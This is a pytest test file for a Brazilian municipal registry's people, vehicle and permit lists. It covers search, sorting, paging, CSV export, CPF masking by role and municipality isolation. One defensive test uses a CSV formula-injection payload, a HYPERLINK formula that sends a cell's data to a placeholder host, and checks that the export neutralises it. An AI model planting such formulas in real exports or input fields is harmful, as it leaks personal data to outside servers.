"""The registry's lists (issue "back office", item 5): people, vehicles and permits filtered at a
URL, sorted both ways, paged, exported as CSV (exactly what is filtered), in Portuguese; a CPF
stays masked, on the page and in the CSV, for a role that must not see it; another
municipality's rows never appear."""

from __future__ import annotations

import csv
import io

import pytest
from auth_factories import client_as
from registry_factories import make_permit, moto_vehicle, person
from validate_docbr import CPF

from outorga.core.tenancy import tenant
from outorga.law.competence import Role
from outorga.registry.models import Permit, Person
from outorga.registry.validation import format_cpf, format_plate

C = "/cadastro"


def csv_rows(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


@pytest.fixture
def many(ipatinga_m):  # type: ignore[no-untyped-def]
    """55 people named "Conceição Paginada NN" (two pages of 50)."""
    gen = CPF()
    with tenant(ipatinga_m):
        Person.objects.bulk_create(
            Person(
                municipality=ipatinga_m, document=gen.generate(), name=f"Conceição Paginada {i:02}"
            )
            for i in range(55)
        )
    return ipatinga_m


# --- people ------------------------------------------------------------------------------------------


def test_the_people_list_searches_at_a_url_without_accents(user_of, many):
    c = client_as(user_of, Role.ATENDENTE)
    page = c.get(f"{C}/pessoas/?q=conceicao+paginada").content.decode()
    assert "55 registros" in page
    assert "Conceição Paginada 00" in page and "página 1 de 2" in page


def test_the_people_search_posted_by_name_is_redirected_to_its_url(user_of, many):
    c = client_as(user_of, Role.ATENDENTE)
    r = c.post(f"{C}/pessoas/", {"q": "conceicao paginada", "tipo": ""})
    assert r.status_code == 303
    assert r["Location"] == f"{C}/pessoas/?q=conceicao+paginada"


def test_a_cpf_searched_is_answered_on_the_post_and_never_put_in_a_url(user_of, ipatinga_m):
    p = person(ipatinga_m, name="José Documentado")
    c = client_as(user_of, Role.ATENDENTE)
    r = c.post(f"{C}/pessoas/", {"q": format_cpf(p.document)})
    assert r.status_code == 200
    html = r.content.decode()
    assert f'href="{C}/pessoas/{p.pk}/"' in html
    # No link carries the search (a sort, a page, the CSV): the CPF would land in a URL.
    assert "formato=csv" not in html and p.document not in html.split("<table")[0].split("csrf")[-1]
    assert f"q={p.document}" not in html and "q=" + format_cpf(p.document) not in html


def test_the_people_list_sorts_both_ways_and_pages(user_of, many):
    c = client_as(user_of, Role.ATENDENTE)
    up = c.get(f"{C}/pessoas/?q=paginada&ordem=nome").content.decode()
    down = c.get(f"{C}/pessoas/?q=paginada&ordem=-nome").content.decode()
    assert up.index("Paginada 00") < up.index("Paginada 01") and "Paginada 54" not in up
    assert down.index("Paginada 54") < down.index("Paginada 53") and "Paginada 00" not in down
    # The header link flips the order; the page links keep the filter and the order.
    assert 'href="?q=paginada&amp;ordem=-nome"' in up
    assert "?q=paginada&amp;ordem=nome&amp;pagina=2" in up
    second = c.get(f"{C}/pessoas/?q=paginada&ordem=nome&pagina=2").content.decode()
    assert "Paginada 50" in second and "Paginada 49" not in second and "página 2 de 2" in second


def test_the_people_csv_has_exactly_the_filtered_rows(user_of, many):
    c = client_as(user_of, Role.ATENDENTE)
    rows = csv_rows(c.get(f"{C}/pessoas/?q=paginada&formato=csv"))
    assert rows[0] == ["Nome", "CPF/CNPJ", "Tipo", "Município de residência", "Cadastrada em"]
    assert len(rows) - 1 == 55
    assert rows[1][2] == "pessoa física"  # the label, never the stored value "natural"


def test_the_people_csv_keeps_what_an_applicant_typed_as_a_formula_as_text(user_of, ipatinga_m):
    """The name and the town come from the applicant's own sign-up and "Meus dados" on the
    portal: a cell that starts with =, +, - or @ is run as a formula by the spreadsheet the
    desk opens the CSV in (it may fetch an address with the row's data). It is exported as
    text, an apostrophe before it."""
    formula = '=HYPERLINK("https://exemplo.invalid/?"&B2;"Abrir") Formulada'
    person(ipatinga_m, name=formula, city="+1+1")
    rows = csv_rows(client_as(user_of, Role.ATENDENTE).get(f"{C}/pessoas/?q=formulada&formato=csv"))
    assert len(rows) == 2
    name, _, _, city, _ = rows[1]
    assert (name, city) == ("'" + formula, "'+1+1")


@pytest.mark.parametrize("role", [Role.JARI, Role.CHEFE_EXECUTIVO], ids=lambda r: r.value)
def test_a_role_that_sees_the_cpf_masked_sees_it_masked_on_the_list_and_in_the_csv(
    user_of, ipatinga_m, role
):
    p = person(ipatinga_m, name="Mascarada Quitéria")
    c = client_as(user_of, role)
    page = c.get(f"{C}/pessoas/?q=quiteria").content.decode()
    assert p.masked_document in page
    assert p.document not in page and format_cpf(p.document) not in page
    body = b"".join(c.get(f"{C}/pessoas/?q=quiteria&formato=csv").streaming_content).decode()
    assert p.masked_document in body and p.document not in body
    assert format_cpf(p.document) not in body
    # Searching by the CPF finds no one for this role.
    found = c.post(f"{C}/pessoas/", {"q": format_cpf(p.document)}).content.decode()
    assert f'href="{C}/pessoas/{p.pk}/"' not in found


def test_the_clerk_sees_the_cpf_in_full(user_of, ipatinga_m):
    p = person(ipatinga_m, name="Inteira Quitéria")
    page = client_as(user_of, Role.ATENDENTE).get(f"{C}/pessoas/?q=quiteria").content.decode()
    assert format_cpf(p.document) in page


def test_the_people_list_filters_by_the_service_and_status_of_their_permits(user_of, ipatinga_m):
    holder = person(ipatinga_m, name="Titular Filtrável")
    person(ipatinga_m, name="Sem Permissão Filtrável")
    make_permit(ipatinga_m, holder=holder, service="motofrete", status=Permit.Status.SUSPENDED)
    c = client_as(user_of, Role.ATENDENTE)
    page = c.get(f"{C}/pessoas/?q=filtravel&servico=motofrete&situacao=suspended").content.decode()
    assert "Titular Filtrável" in page and "Sem Permissão" not in page
    page = c.get(f"{C}/pessoas/?q=filtravel&servico=taxi").content.decode()
    assert "Titular Filtrável" not in page and "Nenhuma pessoa com esses filtros." in page


def test_another_municipality_never_appears_in_the_lists(user_of, ipatinga_m, barra_m):
    other = person(barra_m, name="Forasteiro Único")
    moto_vehicle(barra_m, other)
    make_permit(barra_m, holder=other)
    c = client_as(user_of, Role.ATENDENTE)
    for url in (f"{C}/pessoas/?q=forasteiro", f"{C}/veiculos/?q=forasteiro", f"{C}/permissoes/"):
        assert "Forasteiro" not in c.get(url).content.decode(), url
        body = b"".join(c.get(f"{url}{'&' if '?' in url else '?'}formato=csv").streaming_content)
        assert "Forasteiro" not in body.decode(), url


def test_a_login_that_is_not_staff_is_refused(user_of):
    for url in (f"{C}/pessoas/", f"{C}/veiculos/", f"{C}/permissoes/"):
        assert client_as(user_of, Role.PERMISSIONARIO).get(url).status_code == 403


# --- vehicles ----------------------------------------------------------------------------------------


def test_the_vehicle_list_finds_a_plate_with_or_without_hyphen(user_of, ipatinga_m):
    owner = person(ipatinga_m, name="Dona Veicular")
    v = moto_vehicle(ipatinga_m, owner)
    c = client_as(user_of, Role.ATENDENTE)
    dashed = f"{v.plate[:3]}-{v.plate[3:]}"
    for typed in (v.plate, dashed, dashed.lower()):
        page = c.get(f"{C}/veiculos/", {"q": typed}).content.decode()
        assert f'href="{C}/veiculos/{v.pk}/"' in page, typed
        assert "1 registro" in page
    page = c.get(f"{C}/veiculos/", {"q": "veicular", "especie": "motocicleta"}).content.decode()
    assert "motocicleta" in page and f'href="{C}/pessoas/{owner.pk}/"' in page
    assert "Nenhum veículo" in c.get(f"{C}/veiculos/?q=veicular&especie=automovel").content.decode()
    rows = csv_rows(c.get(f"{C}/veiculos/?q=veicular&formato=csv"))
    assert len(rows) == 2 and rows[1][0] == format_plate(v.plate) and rows[1][1] == "motocicleta"


# --- permits -----------------------------------------------------------------------------------------


def test_the_permit_list_has_no_cut_and_pages_every_permit(user_of, ipatinga_m):
    holder = person(ipatinga_m, name="Muitas Permissões")
    for _ in range(52):
        make_permit(ipatinga_m, holder=holder, service="motofrete")
    c = client_as(user_of, Role.ATENDENTE)
    page = c.get(f"{C}/permissoes/?q=muitas+permissoes&servico=motofrete").content.decode()
    assert "52 registros" in page and "página 1 de 2" in page
    rows = csv_rows(c.get(f"{C}/permissoes/?q=muitas+permissoes&servico=motofrete&formato=csv"))
    assert len(rows) - 1 == 52
    assert {r[1] for r in rows[1:]} == {"motofrete"} and {r[4] for r in rows[1:]} == {"ativa"}
    with tenant(ipatinga_m):
        total = Permit.objects.count()
    everything = csv_rows(c.get(f"{C}/permissoes/?formato=csv"))
    assert len(everything) - 1 == total


def test_the_permit_list_filters_by_status_with_portuguese_labels(user_of, ipatinga_m):
    holder = person(ipatinga_m, name="Suspensa Situacional")
    permit = make_permit(ipatinga_m, holder=holder, status=Permit.Status.SUSPENDED)
    c = client_as(user_of, Role.ATENDENTE)
    page = c.get(f"{C}/permissoes/?situacao=suspended&q=situacional").content.decode()
    assert f'href="{C}/permissoes/{permit.pk}/"' in page and "suspensa" in page
    assert ">suspended<" not in page
    up = c.get(f"{C}/permissoes/?ordem=numero").content.decode()
    down = c.get(f"{C}/permissoes/?ordem=-numero").content.decode()
    assert up != down
